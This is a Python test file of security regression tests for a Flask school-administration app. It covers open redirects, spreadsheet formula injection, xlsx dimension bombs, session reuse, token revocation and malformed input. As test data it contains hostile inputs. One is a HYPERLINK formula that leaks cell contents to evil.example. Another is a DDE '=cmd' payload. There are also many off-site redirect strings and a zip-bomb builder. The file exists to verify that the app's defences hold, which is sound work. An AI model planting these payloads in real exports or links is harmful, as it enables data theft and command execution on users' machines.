"""One test (or more) per finding of the security probe; each fails on the code before its fix.

Finding 6 (login lock-out) is `test_security.py::test_login_throttled_per_account_and_address_but_the_owner_gets_in`;
finding 8 (the job queue) is out of scope here.
"""

from __future__ import annotations

import gc
import io
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import delete, select

from tests.conftest import TEST_PASSWORD, make_school
from tests.webapp.factories import create_user, post_form, publish_for
from webapp import create_app
from webapp.admin.importer import import_file
from webapp.admin.spreadsheet import FileRejected, read_table
from webapp.extensions import db
from webapp.inputs import safe_next
from webapp.models import ApiToken, District, Pupil, School, User
from webapp.security import bureau_scope
from webapp.tabular import csv_bytes

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B5&B6,"Click")'
FORMULA_PAYLOADS = (FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", " =1+1", "=cmd|' /C calc'!A0")


def _login(client: FlaskClient, login: str, password: str = TEST_PASSWORD) -> Any:
    return post_form(client, "/login", {"login": login, "password": password})


# ------------------------------------------------------------------------------------------ 1 open redirect


OFFSITE = ["/\t/evil.example/x", "/\n/evil.example", "/\r/evil.example", "/\\evil.example", "\\/evil.example",
           "//evil.example", "https://evil.example", "/\x00/evil.example", " //evil.example", "/\x0b/evil.example",
           "\t//evil.example", "/\u3000/evil.example", "/\u200b/evil.example", "javascript:alert(1)",
           "/\x7f/evil.example", "http:/evil.example", "///evil.example", "/" + "a" * 5000]
OFFSITE += [f"/{chr(code)}/evil.example" for code in range(0x20)]


@pytest.mark.parametrize("target", OFFSITE)
def test_next_only_same_site_paths(target: str) -> None:
    assert safe_next(target, "/home") == "/home"


@pytest.mark.parametrize("target", ["/family/link", "/admin/pupils?page=2&q=%E6%9D%8E", "/x#top"])
def test_next_keeps_ordinary_paths(target: str) -> None:
    assert safe_next(target, "/home") == target


@pytest.mark.parametrize("target", ["/\t/evil.example/x", "/\n/evil.example", "/\r\n/evil.example", "/\x00x"])
def test_consent_next_never_redirects_off_site(app: Flask, client: FlaskClient,
                                               signed_in: Callable[..., User], target: str) -> None:
    signed_in("parent")
    response = client.get("/family/consent?next=" + quote(target, safe=""))
    assert response.status_code == 302
    location = urlsplit(response.headers["Location"])
    assert location.netloc in ("", "localhost") and not location.path.startswith("//")


# ------------------------------------------------------------------------------------------ 2 formulas


def _formula_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_roster_exports_write_names_as_text(app: Flask, client: FlaskClient,
                                            signed_in: Callable[..., User]) -> None:
    signed_in("school_admin")
    with app.app_context():
        pupil = db.session.scalar(select(Pupil).where(Pupil.number == "P001"))
        assert pupil is not None
        pupil.name, pupil.class_name = FORMULA, "+1+1"
        publish_for(pupil.id)
        term_id = pupil.school.terms[0].id
    for kind in ("sessions", "classes", "teachers"):
        response = client.get(f"/admin/rosters/{term_id}/{kind}.xlsx")
        assert response.status_code == 200, kind
        assert _formula_cells(response.data) == [], kind
    sessions = load_workbook(io.BytesIO(client.get(f"/admin/rosters/{term_id}/sessions.xlsx").data))
    values = [cell.value for sheet in sessions.worksheets for row in sheet.iter_rows() for cell in row]
    assert FORMULA in values  # kept exactly, only inert


def test_bureau_export_writes_names_as_text(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        school = make_school(district_name="=1+1")
        school.name = FORMULA
        create_user("bureau", login="city")
        db.session.commit()
    _login(client, "city")
    for url in ("/bureau/export.xlsx", "/bureau/hiring.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert _formula_cells(response.data) == [], url


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_csv_fields_that_could_start_a_formula_get_an_apostrophe(payload: str) -> None:
    text = csv_bytes([[payload, 3]]).decode("utf-8-sig")
    assert text.startswith(("'", "\"'")), text


# ------------------------------------------------------------------------------------------ 3 cell-count bomb


@contextmanager
def own_cpu() -> Iterator[Callable[[], float]]:
    """CPU seconds of this process inside the block, the test suite's own heap left out: what was alive before the
    block is frozen out of the garbage collector, whose full passes over a long suite's heap otherwise counted (2.0
    CPU-seconds for an upload that takes 0.4 s alone). A stalled virtual machine does not count either."""
    gc.collect()
    gc.freeze()
    started = time.process_time()
    try:
        yield lambda: time.process_time() - started
    finally:
        gc.unfreeze()


def _bomb(last_column: str = "XFD", rows: int = 20_001, extra: str = "") -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.cell(row=rows, column=1, value="x")
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="A1:{last_column}{rows}"/>'.encode(),
                              data)
                data = data.replace(b"</sheetData>", extra.encode() + b"</sheetData>")
            target.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize("last_column", ["ALL", "DCV", "XFD"])  # 1,000 / 2,800 / 16,384 declared columns
def test_dimension_bomb_is_answered_quickly(app: Flask, last_column: str) -> None:
    data = _bomb(last_column)
    assert len(data) < 10_000
    with own_cpu() as spent, app.test_request_context():
        try:
            read_table("bomb.xlsx", data)
        except FileRejected:
            pass
    assert spent() < 2


def test_too_wide_sheet_is_refused_with_a_message(app: Flask) -> None:
    """A value in column 101 refuses the file; reading never looks further right than that."""
    wide = '<row r="2"><c r="CW2" t="inlineStr"><is><t>far right</t></is></c></row>'
    with app.test_request_context():
        with pytest.raises(FileRejected, match="100"):
            read_table("wide.xlsx", _bomb("CW", rows=1, extra=wide))


def test_dimension_bomb_upload_gets_a_page_not_a_wait(app: Flask, client: FlaskClient,
                                                      signed_in: Callable[..., User]) -> None:
    signed_in("school_admin")
    with own_cpu() as spent:
        response = post_form(client, "/admin/import/pupils", {"file": (io.BytesIO(_bomb()), "bomb.xlsx")})
    assert spent() < 2
    assert response.status_code == 422


# ------------------------------------------------------------------------------------------ 4 id reuse


def test_a_deleted_accounts_cookie_never_signs_in_as_a_new_family(app: Flask) -> None:
    with app.app_context():
        make_school()
        old = create_user("parent", login="13700000001")
        old_id = old.id
    old_browser = app.test_client()
    assert _login(old_browser, "13700000001").status_code == 302
    with app.app_context():  # what purge-term does to a parent whose children have left
        db.session.execute(delete(User).where(User.id == old_id))
        db.session.commit()
    post_form(app.test_client(), "/register", {"phone": "13700000002", "password": "a brand new passphrase",
                                                "confirm": "a brand new passphrase", "display_name": "New",
                                                "consent": "y"})
    with app.app_context():
        new = db.session.scalar(select(User).where(User.phone == "13700000002"))
        assert new is not None and new.id != old_id  # ids are never handed out twice
    response = old_browser.get("/account/export")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_a_session_needs_the_accounts_secret(app: Flask, client: FlaskClient) -> None:
    """Where an id does come back (another database, a restore), the per-account secret still differs."""
    with app.app_context():
        user = create_user("bureau", login="city")
        user_id, secret = user.id, user.session_secret
        other = create_user("bureau", login="other")
        assert len(secret) >= 32 and other.session_secret != secret
    assert _login(client, "city").status_code == 302
    assert client.get("/account").status_code == 200
    with app.app_context():
        user = db.session.get(User, user_id)
        assert user is not None
        user.session_secret = "0" * 32
        db.session.commit()
    assert client.get("/account").status_code == 302


# ------------------------------------------------------------------------------------------ 5 tokens


def test_log_out_other_devices_revokes_api_tokens(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        make_school()
        create_user("parent", login="13700000001")
    issued = app.test_client().post("/api/v1/tokens", json={"phone": "13700000001", "password": TEST_PASSWORD})
    token = issued.get_json()["token"]
    headers = {"Authorization": f"Bearer {token}"}
    assert app.test_client().get("/api/v1/me", headers=headers).status_code == 200
    _login(client, "13700000001")
    assert post_form(client, "/logout-others", {}, token_from="/account").status_code == 302
    assert app.test_client().get("/api/v1/me", headers=headers).status_code == 401
    assert client.get("/account").status_code == 200  # this browser stays signed in
    with app.app_context():
        assert all(row.revoked for row in db.session.scalars(select(ApiToken)))


# ------------------------------------------------------------------------------------------ 7 shared counters


def test_production_refuses_per_process_rate_limits(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for key in ("RATELIMIT_STORAGE_URI", "REDIS_URL", "CELERY_BROKER_URL", "RATELIMIT_ALLOW_PER_PROCESS"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("APP_ENV", "production")
    config = {"SECRET_KEY": "x" * 32, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'p.db'}"}
    with pytest.raises(RuntimeError, match="REDIS_URL"):
        create_app(config)
    with pytest.raises(RuntimeError):
        create_app({**config, "RATELIMIT_STORAGE_URI": "memory://"})
    assert create_app({**config, "RATELIMIT_STORAGE_URI": "redis://127.0.0.1:6379/6"})
    monkeypatch.setenv("RATELIMIT_ALLOW_PER_PROCESS", "1")
    assert create_app(config)


# ------------------------------------------------------------------------------------------ 9 server errors


def test_deep_or_huge_json_is_a_400(app: Flask) -> None:
    with app.app_context():
        make_school()
        create_user("parent", login="13700000001")
    client = app.test_client()
    for body in ("[" * 50_000, "{\"a\":" * 10_000, "[" * 21 + "]" * 21):
        response = client.post("/api/v1/tokens", data=body, content_type="application/json")
        assert response.status_code == 400, body[:30]
    huge = '{"phone": "' + "1" * 100_000 + '"}'
    assert client.post("/api/v1/tokens", data=huge, content_type="application/json").status_code == 413
    token = client.post("/api/v1/tokens", json={"phone": "13700000001", "password": TEST_PASSWORD}).get_json()
    with app.app_context():
        pupil_id = db.session.scalar(select(Pupil.id))
    response = client.put(f"/api/v1/children/{pupil_id}/request", data="[" * 50_000,
                          content_type="application/json", headers={"Authorization": f"Bearer {token['token']}"})
    assert response.status_code in (400, 404)


HUGE = ("9223372036854775808", str(2**64), "-9223372036854775809", "9" * 400, "1e400", "0x10")


@pytest.mark.parametrize("value", HUGE)
def test_huge_query_integers_are_never_a_500(app: Flask, value: str) -> None:
    with app.app_context():
        school = make_school()
        create_user("school_admin", login="admin", school=school)
        create_user("bureau", login="city")
        pupil = db.session.scalar(select(Pupil))
        assert pupil is not None
        run_id = publish_for(pupil.id)
        term_id = school.terms[0].id
    admin, bureau = app.test_client(), app.test_client()
    _login(admin, "admin")
    _login(bureau, "city")
    urls = [f"/admin/pupils?page={value}", f"/admin/runs/{run_id}?day={value}",
            f"/admin/runs/compare?a={value}&b={run_id}", f"/admin/rosters/{term_id}/?run={value}",
            f"/admin/rosters/{term_id}/solution.json?run={value}"]
    for url in urls:
        assert admin.get(url).status_code < 500, url
    for url in (f"/bureau/export.xlsx?school={value}", f"/bureau/export.xlsx?district={value}"):
        assert bureau.get(url).status_code < 500, url
    response = post_form(bureau, "/bureau/batches", {"district": value}, token_from="/bureau/")
    assert response.status_code < 500


def test_overlong_csv_field_is_refused_with_its_row(app: Flask) -> None:
    data = ("学号,姓名,年级\nP1,李,3\nP2," + "x" * 140_000 + ",3\n").encode()
    with app.test_request_context(), pytest.raises(FileRejected, match="3"):
        read_table("long.csv", data)


def test_control_characters_are_refused_at_import(app: Flask) -> None:
    with app.test_request_context("/admin/import/pupils"):
        school = make_school()
        result = import_file("pupils", "p.csv", "学号,姓名,年级\nP9,A\x00B,3\n".encode(), school, school.terms[0])
        assert not result.ok
        assert [(p.row, p.column) for p in result.problems] == [(2, "姓名")]
        assert "U+0000" in result.problems[0].text


def test_exports_survive_control_characters_already_stored(app: Flask, client: FlaskClient,
                                                           signed_in: Callable[..., User]) -> None:
    signed_in("school_admin")
    with app.app_context():
        pupil = db.session.scalar(select(Pupil).where(Pupil.number == "P001"))
        assert pupil is not None
        pupil.name, pupil.class_name = "A\x00B\x1b", "3\x01"
        publish_for(pupil.id)
        term_id = pupil.school.terms[0].id
    for kind in ("sessions", "classes", "teachers"):
        assert client.get(f"/admin/rosters/{term_id}/{kind}.xlsx").status_code == 200, kind


# ------------------------------------------------------------------------------------------ 10 CSV


def test_csv_doubled_quotes_and_quoted_commas(app: Flask) -> None:
    data = '学号,姓名,年级,班级\nP1,"Li ""Lily""",3,"3,1"\n'.encode()
    with app.test_request_context():
        table = read_table("p.csv", data)
    assert [cell.value for cell in table.rows[0][1]] == ["P1", 'Li "Lily"', "3", "3,1"]


@pytest.mark.parametrize("body", ['P1,"Li "Lily"",3\n', 'P1,"open,3\nP2,x,3\n', "P1,李,3,3,1\n"])
def test_csv_rows_that_do_not_parse_are_refused_with_row_numbers(app: Flask, body: str) -> None:
    with app.test_request_context(), pytest.raises(FileRejected, match="2"):
        read_table("p.csv", ("学号,姓名,年级\n" + body).encode())


# ------------------------------------------------------------------------------------------ 11 bureau scope


def test_bureau_scope_closes_when_the_district_disappears(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        make_school("KM-TEST-0001", district_name="五华区")
        make_school("KM-TEST-0002", district_name="盘龙区")
        district = db.session.scalar(select(District).where(District.name == "五华区"))
        officer = create_user("bureau", login="wuhua", district=district)
        city = create_user("bureau", login="city")
        assert city.city_wide and not officer.city_wide
    _login(client, "wuhua")
    assert client.get("/bureau/", follow_redirects=True).status_code == 200
    with app.app_context():
        db.session.execute(delete(District).where(District.name == "五华区"))
        db.session.commit()
        officer = db.session.scalar(select(User).where(User.username == "wuhua"))
        assert officer is not None and officer.district_id is None
        assert db.session.scalars(select(School.id).where(bureau_scope(officer))).all() == []
    for url in ("/bureau/", "/bureau/export.xlsx", "/bureau/hiring.xlsx"):
        response = client.get(url)
        assert response.status_code == 403, url
    assert "区" in client.get("/bureau/").get_data(as_text=True)  # told why, in Chinese
